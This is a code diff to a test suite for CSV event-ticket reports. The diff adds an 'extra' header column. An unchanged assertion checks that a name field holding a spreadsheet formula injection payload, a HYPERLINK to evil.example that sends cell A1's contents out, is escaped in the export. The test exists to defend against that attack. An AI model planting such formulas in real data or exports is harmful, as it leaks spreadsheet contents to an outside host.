@@ -79,7 +79,7 @@ describe('event reports', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
     const text = new TextDecoder().decode(bytes)
     const lines = text.split('\r\n').filter(Boolean)
-    expect(lines[0]).toBe('ticket,order,ticket type,seat,status,name,holder email,buyer email,passed on,checked in at,bought at,answers')
+    expect(lines[0]).toBe('ticket,order,ticket type,seat,status,name,holder email,buyer email,passed on,checked in at,bought at,answers,extra')
     expect(lines).toHaveLength(5)
     expect(lines[1]).toStartWith(`${adaTickets[0]!.id},${adaOrder.body.id},Standing,,valid,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",${ada!.user.email},`)
     expect(lines[2]).toContain(',Zoë Ångström,')
